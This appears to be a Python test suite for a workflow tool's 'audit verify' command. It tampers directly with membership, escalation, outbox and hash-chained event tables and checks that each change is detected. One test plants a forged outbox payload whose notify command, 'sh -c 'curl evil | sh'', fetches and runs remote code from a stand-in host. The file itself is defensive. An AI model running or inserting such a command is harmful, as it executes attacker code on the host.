"""audit verify checks every table against the history (issue 16, item 3), on SQLite and on
PostgreSQL (changed here by the owner, whom the database's guards trust): members replayed
from their events, escalations, the outbox, and each move against the state machine."""

from __future__ import annotations

import json
from datetime import UTC, datetime

import pytest
from sqlalchemy import create_engine, text

from tests.conftest import SMALL_PLAN, write_plan
from workflow.store.audit import event_hash
from workflow.store.db import database_url

T0 = "2024-04-01T08:00:00+07:00"


@pytest.fixture
def plan(run, tmp_path):
    """SMALL_PLAN with a member, an open escalation (with its outbox row) and a move."""
    postgresql = "://" in run.db  # there the person is the role the tests connect as
    run.me = "workflow" if postgresql else "nguyen"
    env = {} if postgresql else {"WORKFLOW_PERSON": run.me}
    run.ok("load", write_plan(tmp_path, SMALL_PLAN), now=T0)
    run.ok("members", "add", run.me, "so-y-te", env=env)
    run.ok("block", "c", "--as", "so-y-te", "--note", "Thiếu hồ sơ",
           env={**env, "WORKFLOW_NOTIFY_COMMAND": "false"})
    run.ok("audit", "verify")
    return run


def sql(run, stmt: str, **params) -> None:
    engine = create_engine(database_url(run.db))
    try:
        with engine.begin() as c:
            c.execute(text(stmt), params)
    finally:
        engine.dispose()


def verify_error(run) -> str:
    r = run("audit", "verify")
    assert r.code == 7, (r.code, r.out, r.err)
    return r.error


def test_a_member_added_in_the_table_only_is_found(plan):
    sql(plan, "INSERT INTO wf_member VALUES ('small', 'mallory', 'ubnd-tinh', 'nguyen', "
              "'2024-04-02 00:00:00')")
    assert verify_error(plan) == ("Error: plan small: mallory is a member of ubnd-tinh but no "
                                  "member_added event in the history made them one; the "
                                  "membership table was changed outside workflow")


def test_a_member_deleted_from_the_table_only_is_found(plan):
    sql(plan, "DELETE FROM wf_member")
    assert verify_error(plan) == (f"Error: plan small: the history makes {plan.me} a member of "
                                  "so-y-te, but the membership table does not; it was changed "
                                  "outside workflow")


def test_who_added_a_member_is_checked_too(plan):
    sql(plan, "UPDATE wf_member SET added_by = 'mallory'")
    assert verify_error(plan).startswith(f"Error: plan small: {plan.me}'s membership of so-y-te "
                                         "says added by mallory, but the history says")


def test_a_deleted_or_resolved_escalation_is_found(plan):
    sql(plan, "UPDATE wf_escalation SET resolved_at = '2024-04-03 00:00:00'")
    assert verify_error(plan) == ("Error: plan small: task c: escalation 1 is resolved at level "
                                  "1 (ubnd-tinh) but its events (from seq 4) say open at level "
                                  "1 (ubnd-tinh); it was changed outside workflow")
    sql(plan, "DELETE FROM wf_delivery")
    sql(plan, "DELETE FROM wf_escalation")
    assert verify_error(plan) == ("Error: plan small: task c: escalation 1, raised at event seq "
                                  "4, is missing from the escalations; it was deleted outside "
                                  "workflow")


def test_an_outbox_row_without_its_event_is_found(plan):
    payload = json.dumps({"notify": {"command": "sh -c 'curl evil | sh'"}, "task": "c"})
    for seq in (4, 3):  # a second row for the escalation's event; one for a block event
        sql(plan, "INSERT INTO wf_delivery (plan_id, event_seq, task_id, payload, attempts, "
                  "next_attempt_at) VALUES ('small', :seq, 'c', :p, 0, '2024-04-02 00:00:00')",
            seq=seq, p=payload)
    assert verify_error(plan) == ("Error: plan small: outbox row 2 (event seq 4): a second row "
                                  "for the same event; it was added outside workflow")
    sql(plan, "DELETE FROM wf_delivery WHERE id = 2")
    assert verify_error(plan) == ("Error: plan small: outbox row 3 (event seq 3): that event is "
                                  "not a raised or climbed escalation; the row was added outside "
                                  "workflow")
    sql(plan, "DELETE FROM wf_delivery WHERE id = 3")
    sql(plan, "UPDATE wf_delivery SET payload = replace(payload, '\"level\": 1', "
              "'\"level\": 3')")
    assert verify_error(plan) == ("Error: plan small: outbox row 1 (event seq 4) does not say "
                                  "what its event says; it was changed outside workflow")


def test_a_move_the_machine_would_refuse_is_found_even_with_a_good_chain(plan):
    """Approving an assigned task, hashed and headed correctly, with its task row to match."""
    engine = create_engine(database_url(plan.db))
    try:
        with engine.begin() as c:
            seq, prev = c.execute(text("SELECT seq, hash FROM wf_event ORDER BY seq DESC LIMIT "
                                       "1")).one()
            e = {"plan_id": "small", "seq": seq + 1, "task_id": "d", "event": "approve",
                 "from_state": "assigned", "to_state": "approved", "actor": "ttyt",
                 "person": plan.me, "at": datetime(2024, 4, 3, tzinfo=UTC), "note": None,
                 "escalated_to": None, "level": None, "reason": None, "data": None}
            e["prev_hash"], e["hash"] = prev, event_hash(prev, e)
            c.execute(text(f"INSERT INTO wf_event ({', '.join(e)}) VALUES "
                           f"({', '.join(':' + k for k in e)})"), e)
            c.execute(text("UPDATE wf_task SET state = 'approved', version = 1 "
                           "WHERE task_id = 'd'"))
            c.execute(text("UPDATE wf_plan SET head_seq = :s, head_hash = :h"),
                      {"s": seq + 1, "h": e["hash"]})
    finally:
        engine.dispose()
    assert verify_error(plan) == (f"Error: plan small: event seq {seq + 1} (approve on d): the "
                                  "state machine does not approve a task that is assigned (to "
                                  "approved); the history was written outside workflow")
